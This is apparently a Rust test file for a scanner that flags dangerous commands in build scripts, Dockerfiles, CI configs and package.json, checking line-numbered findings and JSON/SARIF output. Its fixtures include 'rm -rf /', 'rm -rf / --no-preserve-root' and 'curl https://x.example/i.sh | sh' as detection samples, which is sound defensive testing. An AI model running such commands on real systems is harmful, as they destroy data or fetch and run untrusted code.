// SPDX-License-Identifier: Apache-2.0 OR MIT

//! `scan`: commands in files are judged and reported with their line.

use crate::context::TestContext;

/// Only the rules that these tests are about.
const RULES: &[&str] = &["--no-baseline", "--packs", "destructive,remote-code"];

/// A project with a finding in every kind of file.
fn project() -> TestContext {
    let test = TestContext::new();
    let files = [
        (
            "deploy.sh",
            "#!/bin/bash\nset -eu\nOUT=build\nrm -rf \"$OUT\"\nTARGET=/srv/www\nrm -rf \"$TARGET\"\n\
             cat <<EOF > notes\nrm -rf /\nEOF\nclean() {\n  echo cleaning\n  rm -rf ~/cache\n}\ncurl https://x.example/i |\n  sh\n",
        ),
        ("bin/tool", "#!/usr/bin/env python3\nimport os\n"),
        ("bin/run", "#!/bin/sh\nrm -rf /etc\n"),
        (
            "Makefile",
            "OUT = build\nall:\n\t@echo hi\nclean:\n\t-rm -rf $(OUT)\n\trm -rf $(PREFIX)/x \\\n\t  y\nevil: ; rm -rf /\n",
        ),
        (
            "Dockerfile",
            "FROM debian\nRUN apt-get update && \\\n    rm -rf /var/lib/apt/lists/*\nRUN curl https://x.example/i.sh | sh\n",
        ),
        (
            ".github/workflows/ci.yml",
            "on: push\njobs:\n  a:\n    steps:\n      - run: make\n      - name: x\n        run: |\n          echo a\n          rm -rf ~/x\n",
        ),
        (".gitlab-ci.yml", "job:\n  script:\n    - cd /\n    - rm -rf *\n"),
        (
            "package.json",
            "{\n\t\"name\": \"x\",\n\t\"scripts\": {\n\t\t\"build\": \"tsc\",\n\t\t\"clean\": \"rm -rf ~/y\"\n\t}\n}\n",
        ),
        ("justfile", "clean:\n    @rm -rf /opt\n"),
        ("Taskfile.yml", "version: '3'\ntasks:\n  a:\n    cmds:\n      - echo ok\n      - rm -rf {{.DIR}}\n"),
        ("broken/.gitlab-ci.yml", "a: [\n"),
        ("node_modules/x/bad.sh", "rm -rf /\n"),
        ("target/bad.sh", "rm -rf /\n"),
        ("README.md", "rm -rf /\n"),
    ];
    for (name, text) in files {
        test.write(&format!("work/{name}"), text);
    }
    test
}

#[test]
fn a_directory_is_walked_and_every_finding_has_its_line() {
    let test = project();
    let ran = test.run(&[&["scan", "."], RULES].concat());
    let heads: Vec<_> = ran
        .stdout
        .lines()
        .filter(|line| line.contains(" — "))
        .map(|line| line.split(" — ").next().unwrap())
        .collect();
    assert_eq!(
        heads,
        [
            ".github/workflows/ci.yml:9: deny recursive-delete",
            ".gitlab-ci.yml:4: deny recursive-delete",
            "Dockerfile:4: deny remote-code",
            "Makefile:6: ask recursive-delete-unknown",
            "Makefile:8: deny recursive-delete",
            "Taskfile.yml:6: ask recursive-delete-unknown",
            "bin/run:2: deny recursive-delete",
            "deploy.sh:6: deny recursive-delete",
            "deploy.sh:12: deny recursive-delete",
            "deploy.sh:14: deny remote-code",
            "justfile:2: deny recursive-delete",
            "package.json:5: deny recursive-delete",
        ],
        "{}",
        ran.stdout
    );
    assert!(ran.stdout.contains("\n    rm -rf \"$TARGET\"\n"), "{}", ran.stdout);
    assert!(ran.stdout.contains("not read broken/.gitlab-ci.yml:"), "{}", ran.stdout);
    assert_eq!(ran.exit, 1);
}

#[test]
fn the_user_chooses_which_findings_fail() {
    let test = TestContext::new();
    test.write("work/a.sh", "rm -rf \"$X\"\n");
    let exit = |args: &[&str]| test.run(&[&["scan", "a.sh"], args].concat()).exit;
    assert_eq!((exit(&[]), exit(&["--fail-on", "ask"])), (0, 1));
    test.write("work/a.sh", "rm -rf /\n");
    assert_eq!((exit(&[]), exit(&["--fail-on", "never"])), (1, 0));
    assert_eq!(exit(&["no-such-file"]), 2);
    test.write("work/a.sh", "ls\n");
    assert_eq!(exit(&["--fail-on", "ask"]), 0);
}

#[test]
fn machine_readable_output_has_the_same_findings() {
    let test = project();
    let answer = test.run(&[&["scan", "deploy.sh", "--json"], RULES].concat()).json();
    assert_eq!(answer["findings"].as_array().unwrap().len(), 3);
    assert_eq!(answer["findings"][0]["line"], 6);
    assert_eq!(answer["findings"][0]["text"], "rm -rf \"$TARGET\"");
    let sarif = test.run(&[&["scan", "deploy.sh", "--sarif"], RULES].concat()).json();
    assert_eq!(sarif["version"], "2.1.0");
    let run = &sarif["runs"][0];
    assert_eq!(run["results"][0]["locations"][0]["physicalLocation"]["region"]["startLine"], 6);
    assert_eq!(run["results"][0]["level"], "error");
    assert_eq!(run["tool"]["driver"]["rules"].as_array().unwrap().len(), 2);
}

#[test]
fn links_are_not_followed_and_nothing_is_executed() {
    let test = TestContext::new();
    test.write("elsewhere/bad.sh", "rm -rf /\n");
    test.write("work/a.sh", "touch made\n$(touch made)\n");
    std::os::unix::fs::symlink(test.path("elsewhere"), test.path("work/link")).unwrap();
    std::os::unix::fs::symlink(test.path("elsewhere/bad.sh"), test.path("work/link.sh")).unwrap();
    let answer = test.run(&["scan", ".", "--json"]).json();
    assert_eq!(answer["files"], 1);
    assert!(!test.path("work/made").exists());
}

#[test]
fn user_rules_apply_too() {
    let test = TestContext::new();
    test.write("work/a.sh", "echo a\ndocker ps\n");
    let rule = "version: 1\nrules:\n  - {id: no-docker, match: {shell: {program: docker}}, verdict: deny, reason: no}\n";
    test.write("p.yaml", rule);
    let ran = test.run(&["scan", "a.sh", "--policy", "../p.yaml", "--no-baseline"]);
    assert!(ran.stdout.starts_with("a.sh:2: deny no-docker — no\n    docker ps\n"), "{}", ran.stdout);
}

#[test]
fn a_dockerfile_may_change_its_own_image_except_to_destroy_it() {
    let test = TestContext::new();
    let text = "FROM debian\n\
        RUN apt-get update && rm -rf /var/lib/apt/lists/* /usr/share/doc && rm -rf \"$CACHE\"\n\
        RUN useradd app && echo 'app ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers && chown -R app /etc/app\n\
        RUN rm -rf /root/.cache /home/build && chmod -R 777 /srv && echo x > /etc/app.conf\n\
        RUN apt-get clean && rm -rf /etc\n\
        RUN rm -rf / --no-preserve-root\n\
        RUN rm -rf /usr/*\n\
        RUN cd / && rm -rf *\n\
        RUN rm -rf /opt/x && curl https://x.example/i.sh | sh\n";
    test.write("work/Dockerfile", text);
    let ran = test.run(&[&["scan", "Dockerfile", "--json"], RULES].concat());
    let answer = ran.json();
    let found: Vec<_> = answer["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|found| (found["line"].as_u64().unwrap(), found["rule"].as_str().unwrap()))
        .collect();
    let lines: Vec<_> = found.iter().map(|(line, _)| *line).collect();
    assert_eq!(lines, [5, 6, 7, 8, 9], "{found:?}");
    assert!(found.contains(&(9, "remote-code")), "{found:?}");
    assert!(found.contains(&(5, "recursive-delete")), "{found:?}");
}
